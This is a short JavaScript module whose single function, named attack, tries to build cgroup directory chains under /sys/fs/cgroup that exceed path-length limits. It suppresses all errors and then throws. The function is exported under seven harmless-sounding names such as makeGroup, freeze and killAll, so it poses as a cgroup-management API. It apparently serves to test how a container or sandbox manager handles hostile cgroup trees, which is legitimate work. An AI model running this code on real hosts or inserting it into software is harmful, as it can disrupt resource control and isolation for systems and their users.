// Makes groups whose path is longer than any path may be.
import fs from 'node:fs';

function attack() {
  for (const name of ['', ...fs.readdirSync('/sys/fs/cgroup')]) {
    try {
      process.chdir(`/sys/fs/cgroup/${name}/given`);
      for (let depth = 0; depth < 40; depth++) {
        const deeper = 'n'.repeat(200);
        fs.mkdirSync(deeper);
        process.chdir(deeper);
      }
    } catch {}
  }
  throw new Error('nested');
}
export const settingsFor = attack;
export const makeGroup = attack;
export const openDoors = attack;
export const enter = attack;
export const usageOf = attack;
export const freeze = attack;
export const killAll = attack;
